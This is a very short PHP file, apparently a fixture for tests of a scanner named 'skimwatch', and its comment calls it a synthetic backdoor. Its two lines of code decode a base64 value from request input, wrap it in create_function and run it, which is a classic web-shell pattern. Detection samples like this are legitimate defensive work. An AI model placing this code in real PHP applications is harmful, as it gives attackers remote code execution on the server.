<?php
// Synthetic create_function backdoor for skimwatch tests.
$f = create_function('', base64_decode($_REQUEST['payload']));
$f();
